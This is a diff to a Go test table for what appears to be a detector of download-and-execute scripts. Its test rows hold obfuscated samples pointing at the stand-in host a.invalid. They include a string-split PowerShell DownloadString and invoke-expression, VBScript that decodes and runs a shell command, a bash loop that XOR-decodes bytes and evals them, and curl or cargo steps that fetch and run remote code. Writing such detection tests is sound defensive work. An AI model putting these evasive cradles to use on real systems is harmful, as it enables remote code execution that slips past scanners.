@@ -42,6 +42,8 @@ func TestChannels(t *testing.T) {
 		{"name of a method", "a.ps1", "$w = 'Net' + '.Web' + 'Client'\n$m = 'Down' + 'loadStr' + 'ing'\n$r = (New-Object $w).$m('https://a.invalid/r')\n& (gcm *ke-Ex*n) $r\n", "a.invalid", "iex"},
 		{"function in one line", "a.vbs", "Function z(a) : Dim i : For Each i In Split(a) : z = z & Chr(i / 3 - 4) : Next : End Function\nCreateObject(z(\"" + commaNumbers("WScript.Shell", " ", func(c byte) int { return (int(c) + 4) * 3 }) + "\")).Run z(\"" + commaNumbers(batchCradle, " ", func(c byte) int { return (int(c) + 4) * 3 }) + "\"), 0\n", "a.invalid", "mshta"},
 		{"list of words", "a.vbs", "a = Array(\"https://a.invalid/l\", \"%TEMP%\\l.exe\", \"curl -so \")\nSet s = WScript.CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c \" & a(2) & a(1) & \" \" & a(0), 0, True\ns.Run a(1)\n", "a.invalid", "direct"},
+		{"numbers in a loop", "a.command", "#!/bin/bash\nk=37; for b in " + commaNumbers(shellCradle, " ", xored(37)) + "; do s=\"$s$(printf \"\\\\$(printf %o $((b ^ k)))\")\"; done\neval \"$s\"\n", "a.invalid", "bash"},
+		{"octal table", "a.sh", "#!/bin/bash\nk=1; for b in 70 80 87 73 90; do s=\"$s$(printf \"\\\\$(printf %o $((b ^ k)))\")\"; done\necho \"$s\"\n", "", ""},
 		{"commands in a compiled name", "main.scpt", "cargo install --git https://a.invalid/cli && room join 8841\n", "a.invalid", "package"},
 		{"build in a compiled name", "main.scpt", "# builds the client\ncd $(mktemp -d); curl -sL https://a.invalid/s.tar.gz | tar xz --strip 1; make -s && ./client &\n", "a.invalid", "unzip-run"},
 	} {
